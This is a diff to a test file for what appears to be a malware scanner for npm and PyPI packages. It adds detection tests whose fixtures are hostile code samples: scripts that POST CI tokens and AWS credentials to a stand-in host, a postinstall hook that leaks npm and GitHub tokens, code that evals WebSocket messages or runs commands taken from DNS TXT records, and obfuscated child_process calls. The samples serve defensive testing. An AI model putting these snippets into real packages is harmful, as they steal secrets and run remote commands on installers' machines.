@@ -1,5 +1,6 @@
 import { describe, expect, it } from '@jest/globals';
 import { jsExfiltration } from '../../../src/analysis/rules/js-exfiltration.js';
+import { jsObfuscatedCode } from '../../../src/analysis/rules/js-obfuscated-code.js';
 import { jsExecDecoded } from '../../../src/analysis/rules/js-exec-decoded.js';
 import { codeMemoryExecution } from '../../../src/analysis/rules/code-memory-execution.js';
 import { pyDownloadExecute } from '../../../src/analysis/rules/py-download-execute.js';
@@ -405,5 +406,80 @@ describe('stores and scripts named in pieces', () => {
         "const fs=require('fs'),path=require('path'),os=require('os');\nconst c=fs.readFileSync(path.join(os.homedir(),'.aws','credentials'),'utf8');\nrequire('https').request({host:'x.example.net',method:'POST'}).end(c);\n",
     });
     expect(gating(findings)).toHaveLength(1);
+  });
+});
+
+describe('secrets from the environment and commands from the network', () => {
+  it('flags CI secrets of several services put into one request body (Python)', async () => {
+    const findings = await runOn(pyExfiltration, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/util.py': [
+        'import os, requests',
+        'def report():',
+        "    requests.post('https://x.example.net/t', json={'t': os.environ.get('GITHUB_TOKEN'), 'a': os.getenv('AWS_SECRET_ACCESS_KEY')})",
+      ].join('\n'),
+    });
+    expect(gating(findings)).toHaveLength(1);
+    expect(findings[0].message).toContain('GITHUB_TOKEN');
+  });
+
+  it("keeps a client sending its own service's token in an auth header below the gate", async () => {
+    const findings = await runOn(pyExfiltration, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/gh.py': [
+        'import os, requests',
+        'def repos():',
+        "    token = os.environ['GITHUB_TOKEN']",
+        "    return requests.get('https://api.github.com/user/repos', headers={'Authorization': f'token {token}'})",
+      ].join('\n'),
+    });
+    expect(gating(findings)).toEqual([]);
+  });
+
+  it('flags a lifecycle script posting npm and GitHub tokens (JavaScript)', async () => {
+    const findings = await runOn(jsExfiltration, 'npm', {
+      'package/package.json':
+        '{"name":"demo","version":"1.0.0","scripts":{"postinstall":"node i.js"}}',
+      'package/i.js':
+        "fetch('https://x.example.net/t',{method:'POST',body:JSON.stringify({t:process.env.GITHUB_TOKEN,n:process.env.NPM_TOKEN})});\n",
+    });
+    expect(gating(findings)[0]?.severity).toBe('critical');
+  });
+
+  it('treats WebSocket messages and DNS TXT answers as data from the network', async () => {
+    const ws = await runOn(jsExecDecoded, 'npm', {
+      'package/package.json': '{"name":"demo","version":"1.0.0","main":"index.js"}',
+      'package/index.js':
+        "const WebSocket=require('ws');const w=new WebSocket('wss://c2.example.net/s');w.on('message',m=>eval(m.toString()));\n",
+    });
+    expect(gating(ws)).toHaveLength(1);
+    const dns = await runOn(jsExecDecoded, 'npm', {
+      'package/package.json': '{"name":"demo","version":"1.0.0","main":"index.js"}',
+      'package/index.js':
+        "require('dns').resolveTxt('cmd.c2.example.net',(e,r)=>{if(!e)require('child_process').exec(r[0].join(''));});\n",
+    });
+    expect(dns[0]?.message).toContain('runs a command received from the network');
+  });
+});
+
+describe('obfuscator.io output', () => {
+  const rotated =
+    "var _0x3a1b=['\\x65\\x78\\x65\\x63','\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73'];(function(_0x2d8f05,_0x4b81bb){var _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x3a1b,0x1b3));var _0x4d74=function(_0x2d8f05){return _0x3a1b[_0x2d8f05-0x0];};require(_0x4d74('0x1'))[_0x4d74('0x0')]('id');\n";
+
+  it('recognises the string-array rotation even in a short file and weighs computed requires', async () => {
+    const findings = await runOn(jsObfuscatedCode, 'npm', {
+      'package/package.json': '{"name":"demo","version":"1.0.0","main":"index.js"}',
+      'package/index.js': rotated,
+    });
+    expect(gating(findings)).toHaveLength(1);
+  });
+
+  it('does not mistake an obfuscator that carries the rotation as a template for obfuscated code', async () => {
+    const findings = await runOn(jsObfuscatedCode, 'npm', {
+      'package/package.json': '{"name":"obf-tool","version":"1.0.0","main":"index.js"}',
+      'package/index.js':
+        "const template = `(function(a, n){ while (--n) { a['push'](a['shift']()); } })`;\nmodule.exports = (name) => template.replace('a', name);\n",
+    });
+    expect(findings).toEqual([]);
   });
 });
